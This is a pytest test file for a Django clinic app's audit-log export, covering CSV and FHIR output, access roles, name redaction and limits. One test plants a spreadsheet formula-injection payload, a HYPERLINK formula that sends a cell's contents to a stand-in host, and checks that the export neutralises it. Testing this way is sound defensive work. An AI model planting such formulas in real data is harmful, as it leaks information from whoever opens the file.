"""What the explorer shows leaves as a file: whole, harmless in a spreadsheet, readable by other programs, and on the log first."""

import csv
import json
from collections.abc import Iterable
from io import StringIO
from typing import Any, cast

import pytest
from django.db import DatabaseError
from django.test import Client

from audit.acting import acting
from audit.models import AuditEvent
from audit.services import record
from clinics.models import Clinic, User
from clinics.roles import Role
from desk.privacy import exports
from patients.models import Patient
from tests.desk.conftest import Hire, system
from tests.factories.clinics import CareTeamFactory
from tests.factories.patients import PatientFactory
from tests.laid_out import laid_out

EXPORT = "/privacy/log/export/"


@laid_out
def officer(hire: Hire) -> User:
    return hire(Role.PRIVACY_OFFICER, in_team=False)


@pytest.fixture
def privacy(officer: User) -> Client:
    browser = Client()
    browser.force_login(officer)
    return browser


@laid_out
def patient(clinic: Clinic) -> Patient:
    """In the care of a team that nobody here belongs to."""
    with acting(system(clinic)):
        return PatientFactory(clinic=clinic, team=CareTeamFactory(clinic=clinic), name="陈雅琴")


def file_of(answer: Any) -> str:
    return b"".join(cast("Iterable[bytes]", answer.streaming_content)).decode()


def exported(clinic: Clinic) -> list[AuditEvent]:
    with acting(system(clinic)):
        return list(AuditEvent.objects.filter(action="log.exported"))


@pytest.mark.parametrize("role", sorted(set(Role) - {Role.PRIVACY_OFFICER}))
def test_nobody_else_exports(role: Role, hire: Hire, client: Client) -> None:
    client.force_login(hire(role))
    assert client.post(EXPORT, {"format": "csv"}).status_code == 403


def test_a_table_holds_every_page_and_no_name(
    patient: Patient, clinic: Clinic, privacy: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "PAGE", 2)
    with acting(system(clinic)):
        for _time in range(5):
            record("tag.set", object=("patients.patient", str(patient.pk)), subjects=[patient.subject_id])
    text = file_of(privacy.post(f"{EXPORT}?action=tag.set&patient={patient.pk}", {"format": "csv"}))
    head, *rows = csv.reader(StringIO(text.removeprefix("\ufeff")))

    assert len(rows) == 5
    assert text.startswith("\ufeff")
    assert {len(row) for row in rows} == {len(head)}
    (event,) = exported(clinic)
    assert (event.kind, event.count, event.reason) == ("exported", len(rows), "csv")
    assert patient.service_number in text
    assert "陈雅琴" not in text


def test_what_a_spreadsheet_would_take_for_a_formula_is_text(
    clinic: Clinic, hire: Hire, privacy: Client
) -> None:
    """The attack: a colleague calls herself a formula that sends the table away when the officer opens it."""
    nasty = hire(Role.NURSE)
    nasty.display_name = '=HYPERLINK("http://x/"&A1)'
    nasty.save()
    browser = Client()
    browser.force_login(nasty)
    browser.get("/privacy/")
    text = file_of(privacy.post(f"{EXPORT}?result=refused", {"format": "csv"}))
    rows = list(csv.reader(StringIO(text)))

    assert rows[1][1] == f"'{nasty.display_name}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_audit_events_are_what_fhir_r4_asks_for(patient: Patient, manager: User, privacy: Client) -> None:
    """Read by a program that knows the standard and not us."""
    from fhir.resources.R4B.auditevent import AuditEvent as Resource

    browser = Client()
    browser.force_login(manager)
    browser.get(f"/patients/{patient.pk}/")
    text = file_of(privacy.post(EXPORT, {"format": "fhir"}))
    resources = [Resource.model_validate(json.loads(line)) for line in text.splitlines()]

    assert len(resources) > 3
    assert all([agent.requestor for agent in resource.agent] == [True] for resource in resources)
    refused = next(resource for resource in resources if resource.outcome == "4")
    assert f"urn:uuid:{manager.pk}" in refused.model_dump_json()
    created = next(resource for resource in resources if resource.action == "C")
    assert f"urn:uuid:{patient.subject_id}" in created.model_dump_json()
    assert "陈雅琴" not in text


def test_a_file_that_cannot_be_written_down_does_not_leave(
    patient: Patient, privacy: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_args: object) -> None:
        raise DatabaseError("disk full")

    monkeypatch.setattr("audit.events._insert", broken)
    answer = privacy.post(EXPORT, {"format": "csv"})

    assert (answer.status_code, answer.streaming) == (503, False)


def test_a_question_without_an_answer_and_one_too_wide_are_refused_in_a_sentence(
    patient: Patient, privacy: Client, clinic: Clinic, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert privacy.post(f"{EXPORT}?since=1999-01-01", {"format": "csv"}).status_code == 422
    assert privacy.post(EXPORT, {"format": "xlsx"}).status_code == 422
    monkeypatch.setattr("desk.privacy.views.MOST", 2)
    assert privacy.post(EXPORT, {"format": "csv"}).status_code == 422
    assert exported(clinic) == []


def test_the_sister_clinics_log_does_not_leave_with_ours(
    other_clinic: Clinic, patient: Patient, privacy: Client
) -> None:
    with acting(system(other_clinic)):
        theirs = record("card.opened", object=("patients.card", "17")).uid
    assert str(theirs) not in file_of(privacy.post(EXPORT, {"format": "fhir"}))
    assert privacy.get(EXPORT).status_code == 405
